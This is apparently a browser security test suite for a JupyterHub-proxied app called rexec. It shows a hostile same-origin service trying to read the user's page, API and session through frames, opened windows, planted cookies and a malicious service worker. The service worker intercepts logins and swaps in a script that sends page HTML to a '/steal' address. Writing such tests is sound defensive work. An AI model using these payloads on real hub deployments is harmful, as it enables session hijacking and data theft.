import { createServer } from 'node:http'
import type { Page } from 'playwright-core'
import t, { type Test } from 'tap'
import { hubMissing, startHub } from '../hub/hub.ts'
import { freePorts } from '../support/free-port.ts'
import { startApp } from '../support/test-app.ts'
import { chromiumMissing, logIn, startChromium } from './chromium.ts'

const skip = (await chromiumMissing()) ?? (await hubMissing()) ?? false

/**
 * What a user's own server can send to those who come to it. It is behind the proxy of the hub, so for a browser it is
 * of the same origin as rexec. `helps` are its answer's headers.
 */
async function startHostile(t: Test, port: number) {
  const hostile = { helps: {} as Record<string, string>, stolen: [] as string[] }
  const server = createServer(({ url }, response) => {
    if (url!.includes('/steal?')) hostile.stolen.push(url!)
    if (url!.includes('/worker.js?')) {
      response.setHeader('service-worker-allowed', '/')
      response.setHeader('content-type', 'text/javascript')
      response.end(WORKER)
    } else {
      for (const [name, value] of url!.includes('?plain') ? [] : Object.entries(hostile.helps))
        response.setHeader(name, value)
      response.setHeader('content-type', 'text/html')
      response.end('<!doctype html><title>hostile</title><body>')
    }
  }).listen(port, '127.0.0.1')
  await new Promise((resolve) => server.once('listening', resolve))
  t.teardown(() => {
    server.closeAllConnections()
    server.close()
  })
  return hostile
}

/** What only our page has, or says of whoever looks at it. */
const OURS = /name="session"|name="shown"|id="servers"|swagger-ui|"name":"alice"/

/**
 * Stands between the browser and our page, in one of these ways: "page" asks for the page itself and by all that the
 * browser offers for that, "race" has the browser ask and share the answer, "requests" reads what is sent, "script" puts
 * a script in the place of the page's, "place" a page in the place of ours.
 */
const WORKER = `
const way = new URL(location).searchParams.get('way')
const seen = []
const OURS = '/services/rexec/'
addEventListener('install', (event) => {
  skipWaiting()
  if (way === 'race') event.addRoutes({
    condition: { urlPattern: new URLPattern({ pathname: OURS + '*' }) },
    source: 'race-network-and-fetch-handler',
  })
})
addEventListener('activate', (event) => event.waitUntil(Promise.all([
  clients.claim(),
  way === 'page' ? registration.navigationPreload.enable() : registration.navigationPreload.disable(),
])))
addEventListener('message', (event) => event.ports[0].postMessage(seen))
addEventListener('fetch', (event) => {
  const { request } = event
  const isOurs = new URL(request.url).pathname.startsWith(OURS)
  seen.push(request.url, ...[...request.headers].map(String))
  if (request.method === 'POST') event.waitUntil(request.clone().text().then((text) => seen.push(text)))
  if (way === 'script' && request.destination === 'script' && !request.url.endsWith('/open.js')) event.respondWith(
    new Response("fetch('/services/bob/steal?' + document.documentElement.outerHTML)", {
      headers: { 'content-type': 'text/javascript' },
    }),
  )
  if (!isOurs || request.mode !== 'navigate') return
  if (way === 'page') event.respondWith(readPage(event))
  if (way === 'race') event.respondWith(keep(fetch(request)))
  if (way === 'place' && request.method === 'GET') event.respondWith(
    new Response('<title>instead</title>', { headers: { 'content-type': 'text/html' } }),
  )
})
async function keep(asked) {
  const answer = await asked
  seen.push(answer.type + ' ' + answer.url, ...[...answer.headers].map(String), await answer.clone().text())
  return answer
}
async function readPage({ request, preloadResponse }) {
  const preload = await preloadResponse
  if (preload) await keep(preload)
  const own = await keep(fetch(request.clone()))
  for (const more of [
    {}, { method: 'POST' }, { mode: 'same-origin' }, { mode: 'no-cors' }, { redirect: 'follow' }, { cache: 'force-cache' },
    { cache: 'only-if-cached', mode: 'same-origin' }, { headers: { 'sec-fetch-dest': 'document' } },
  ]) await keep(fetch(new Request(request.clone(), more))).catch(() => {})
  for (const method of ['GET', 'POST'])
    await keep(fetch(request.url, { method, headers: { accept: 'text/html' } })).catch(() => {})
  return own
}`

const FORM = `(target) => {
  const form = document.createElement('form')
  Object.assign(form, { method: 'post', action: '/services/rexec/', target })
  document.body.append(form)
  form.submit()
}`

/** Each is an attempt to come by what our page knows; gives whatever could be read. */
const ATTEMPTS: Record<string, string> = {
  'the API with the cookie': `(await (await fetch('/services/rexec/api/v1/user')).text())`,
  'the API from a sandboxed frame': sandboxed(`fetch(base + '/services/rexec/api/v1/user')`),
  'the API from a sandboxed frame, with cookies': sandboxed(
    `fetch(base + '/services/rexec/api/v1/user', { credentials: 'include' })`,
  ),
  'the page from a sandboxed frame': sandboxed(
    `fetch(base + '/services/rexec/', { method: 'POST', credentials: 'include', mode: 'no-cors' })`,
  ),
  ...Object.fromEntries(
    ['GET', 'POST'].flatMap((method) => [
      [
        `fetch() by ${method}`,
        `(await (await fetch('/services/rexec/', { method: '${method}', headers: { accept: 'text/html' } })).text())`,
      ],
      [
        `fetch() by ${method} without CORS`,
        `(await (await fetch('/services/rexec/', { method: '${method}', mode: 'no-cors' })).text())`,
      ],
      [
        `XMLHttpRequest for a document by ${method}`,
        `await new Promise((resolve) => {
          const asked = new XMLHttpRequest()
          asked.responseType = 'document'
          asked.onload = () => resolve(asked.response?.documentElement.outerHTML)
          asked.open('${method}', '/services/rexec/')
          asked.send()
        })`,
      ],
    ]),
  ),
  'an iframe': frame('iframe', `frame.src = '/services/rexec/'`),
  'an iframe that a form is sent into': frame('iframe', `frame.name = 'inner', append(), (${FORM})('inner')`),
  'an object': frame('object', `frame.data = '/services/rexec/'`),
  'an embed': frame('embed', `frame.src = '/services/rexec/'`),
  'the cookies, at the address of our page': `(() => {
    history.pushState(null, '', '/services/rexec/')
    const found = document.cookie
    history.back()
    return found
  })()`,
  'a window that it opens': opened(`open('/services/rexec/')`),
  'a window that it opens empty': opened(`(() => {
    const w = open('about:blank', 'mine')
    w.location = '/services/rexec/'
    return w
  })()`),
  'a window that it sends the form to': opened(`(() => {
    const w = open('about:blank', 'sent')
    ;(${FORM})('sent')
    return w
  })()`),
  'a window with the API as a page, where people type tokens': opened(`open('/services/rexec/docs')`),
  'a window called by its name again': opened(`(open('/services/rexec/', 'again'), open('', 'again'))`),
}

/** An expression for an answer, in a frame whose origin is "null", as that of our page is. */
function sandboxed(expression: string): string {
  return `await new Promise((resolve) => {
    addEventListener('message', ({ data }) => resolve(data))
    const frame = document.createElement('iframe')
    frame.sandbox = 'allow-scripts'
    frame.srcdoc = \`<script>
      const base = '\${location.origin}'
      ${expression}.then((answer) => answer.text()).then((text) => parent.postMessage(text, '*'), (error) => parent.postMessage(String(error), '*'))
    </script>\`
    document.body.append(frame)
  })`
}

function frame(tag: string, load: string): string {
  return `await new Promise((resolve) => {
    const frame = document.createElement('${tag}')
    const append = () => document.body.append(frame)
    const read = () => {
      try { resolve(String(frame.contentDocument?.documentElement.outerHTML)) } catch (error) { resolve(String(error)) }
    }
    ${load}
    append()
    frame.onload = frame.onerror = read
    setTimeout(read, 1500)
  })`
}

/** Looks into the window again and again, while and after it loads. */
function opened(expression: string): string {
  return `await (async () => {
    const seen = []
    const w = ${expression}
    for (let looks = 0; looks < 30; looks++) {
      try { if (w.location.pathname.startsWith('/services/rexec')) seen.push(w.document.documentElement.outerHTML) } catch {}
      await new Promise((resolve) => setTimeout(resolve, 50))
    }
    return seen.join()
  })()`
}

/** Looks into the window that has opened this one, wherever that goes. */
const WATCH_OPENER = `(() => {
  window.seen = []
  setInterval(() => {
    try { if (opener.location.pathname.startsWith('/services/rexec')) seen.push(opener.document.documentElement.outerHTML) } catch {}
  }, 10)
})()`

t.test('a hostile page of the same origin, with the cookies of who reads it', { skip }, async (t) => {
  const [port, hostilePort] = (await freePorts(2, '127.0.0.1')) as [number, number]
  const hub = await startHub(t, {
    serviceUrl: `http://127.0.0.1:${port}`,
    config: `c.JupyterHub.services.append({"name": "bob", "url": "http://127.0.0.1:${hostilePort}"})`,
  })
  const app = await startApp(t, {
    port,
    settings: {
      identity: {
        authenticators: ['jupyterhub'],
        jupyterhub: { apiUrl: hub.apiUrl, apiToken: hub.serviceToken },
      },
    },
  })
  const hostile = await startHostile(t, hostilePort)
  const browser = await startChromium(t)
  const context = await browser.newContext()
  context.setDefaultTimeout(240_000)
  const page = await context.newPage()
  await page.goto(`${hub.url}services/rexec/`)
  await logIn(page, 'alice')
  const isOpen = async (page: Page) => page.locator('#user', { hasText: 'alice' }).waitFor()
  await isOpen(page)
  const evil = await context.newPage()
  const go = () => evil.goto(`${hub.url}services/bob/`)
  const run = (expression: string, page = evil) => page.evaluate<string>(`(async () => ${expression})()`)
  const closeOthers = async () => {
    for (const other of context.pages()) if (other !== page && other !== evil) await other.close()
  }
  /** What a window can see that has been opened by one which then goes to us. */
  const secondWindow = async (address: string, visit: string) => {
    await go()
    const opening = context.waitForEvent('page')
    await run(`void open('${address}')`)
    const second = await opening
    await second.waitForLoadState()
    await second.evaluate(WATCH_OPENER)
    await go()
    await run(`void (${visit})`)
    await isOpen(evil)
    const seen = await second.evaluate<string>('seen.join()')
    await second.close()
    return seen
  }

  await t.test('what it can read', async (t) => {
    for (const [what, attempt] of Object.entries(ATTEMPTS)) {
      await go()
      t.notMatch(String(await run(attempt)), OURS, what)
      await closeOthers()
    }
  })

  await t.test('windows that it has opened, when its own goes to us', async (t) => {
    for (const helps of [{}, { 'cross-origin-opener-policy': 'noopener-allow-popups' }]) {
      hostile.helps = helps as Record<string, string>
      for (const address of ['/services/bob/', '/services/bob/?plain', 'about:blank'])
        t.notMatch(await secondWindow(address, `location.href = '/services/rexec/'`), OURS, address)
    }
    hostile.helps = {}
  })

  await t.test('another site, and a sandboxed frame there', async (t) => {
    const elsewhere = await context.newPage()
    const ours = `${hub.url}services/rexec/`
    await elsewhere.goto(`http://localhost:${hostilePort}/services/bob/`)
    for (const [what, attempt] of Object.entries({
      'the API': `(await (await fetch('${ours}api/v1/user', { credentials: 'include' })).text())`,
      'from a frame': sandboxed(`fetch('${ours}api/v1/user', { credentials: 'include' })`),
      'the page': `(await (await fetch('${ours}', { method: 'POST', credentials: 'include' })).text())`,
    })) {
      t.match(await run(attempt, elsewhere).catch(String), 'Failed to fetch', what)
    }
    t.match(
      await run(sandboxed(`fetch('${ours}api/v1/user')`), elsewhere),
      'token_missing',
      'without cookies',
    )
    await elsewhere.evaluate(`(${FORM.replace("'/services/rexec/'", `'${ours}'`)})('_self')`)
    await elsewhere.getByText('opens in a window of its own only').waitFor()
    await elsewhere.close()
  })

  await t.test('a cookie of its own for an address of ours', async (t) => {
    await go()
    await run(`document.cookie = 'rexec-session=of-bob; path=/services/rexec/api'`)
    await page.reload()
    await isOpen(page)
    await run(`document.cookie = 'rexec-session=of-bob; path=/services/rexec'`)
    await page.reload()
    await page.getByText('two cookies called rexec-session').waitFor()
    t.equal(await page.locator('#user').count(), 0)
    for (const path of ['/services/rexec', '/services/rexec/api'])
      await run(`document.cookie = 'rexec-session=; path=${path}; max-age=0'`)
  })

  /** Puts the worker before the whole host; what is given tells what it has seen. */
  const workBetween = async (way: string) => {
    await go()
    await run(`await navigator.serviceWorker.register('/services/bob/worker.js?way=${way}', { scope: '/' })`)
    await run(`await new Promise((resolve) => {
      const look = () => navigator.serviceWorker.controller?.scriptURL.endsWith('${way}') && resolve()
      navigator.serviceWorker.addEventListener('controllerchange', look)
      look()
    })`)
    return async () => {
      await go()
      return run(`await new Promise((resolve) => {
        const { port1, port2 } = new MessageChannel()
        port1.onmessage = ({ data }) => resolve(data.join('\\n'))
        navigator.serviceWorker.controller.postMessage(null, [port2])
      })`)
    }
  }

  for (const [way, shown, what] of [
    ['page', 'opens in a window of its own only', 'that asks for the page in every way'],
    ['race', 'opens in a window of its own only', "that shares the browser's own answer"],
    ['requests', 'alice', 'that reads what is sent'],
    ['script', 'alice', 'that answers for our scripts'],
  ] as const) {
    await t.test(`a service worker for the whole host ${what}`, async (t) => {
      const seen = await workBetween(way)
      const victim = await context.newPage()
      await victim.goto(`${hub.url}services/rexec/`)
      await victim.getByText(shown).first().waitFor()
      const found = await seen()
      t.match(found, `${hub.url}services/rexec/`, 'it stood in between')
      if (way === 'race') t.match(found, 'id="open"', 'it has read what answers a GET')
      t.notMatch(found, OURS)
      t.notMatch(found, /authorization|Session /i, 'nothing of what the page sends')
      await victim.close()
    })
  }

  await t.test('a service worker, together with a second window', async (t) => {
    const seen = await workBetween('requests')
    for (const visit of [`location.href = '/services/rexec/'`, `(${FORM})('_self')`])
      t.notMatch(await secondWindow('/services/bob/', visit), OURS, visit.slice(0, 8))
    t.notMatch(await seen(), OURS)
  })

  await t.test('a service worker that puts a page of its own in the place of ours', async (t) => {
    const seen = await workBetween('place')
    const victim = await context.newPage()
    await victim.goto(`${hub.url}services/rexec/`)
    t.equal(await victim.title(), 'instead')
    for (const what of ['the API with the cookie', 'fetch() by POST', 'a window that it sends the form to'])
      t.notMatch(await run(ATTEMPTS[what]!, victim), OURS, what)
    t.notMatch(await seen(), OURS)
    await closeOthers()
  })

  await t.test('a service worker that watches a login and a logout', async (t) => {
    for (const way of ['race', 'requests']) {
      const seen = await workBetween(way)
      await context.clearCookies({ name: 'rexec-session' })
      const victim = await context.newPage()
      await victim.goto(`${hub.url}services/rexec/login`)
      const address = way === 'race' ? 'opens in a window of its own only' : 'alice'
      await victim.getByText(address).first().waitFor()
      const found = await seen()
      t.match(found, '/oauth_callback?code=', 'it has seen the code')
      t.notMatch(found, OURS)
      t.notMatch(found, /rexec-session|set-cookie/, 'but no answer of a login')
      const callback = /\S+\/oauth_callback\?code=\S+/.exec(found)![0]
      t.match(await run(`(await (await fetch('${callback}')).text())`), 'login_failed')
      if (way === 'requests') {
        await victim.getByRole('button', { name: 'Log out' }).click()
        await victim.waitForURL('**/hub/log*')
        const [, logout] = /^shown=(\S+)$/m.exec(await seen())!
        const asked = `fetch('/services/rexec/api/v1/user', { headers: { authorization: 'Session ${logout}' } })`
        t.match(await run(`(await (await ${asked}).text())`), 'token_invalid', 'what it sees of a logout')
      }
      await victim.close()
    }
  })

  t.same(hostile.stolen, [])
  t.same(
    app.cluster.calls.filter((call) => call.startsWith('start')),
    [],
  )
})
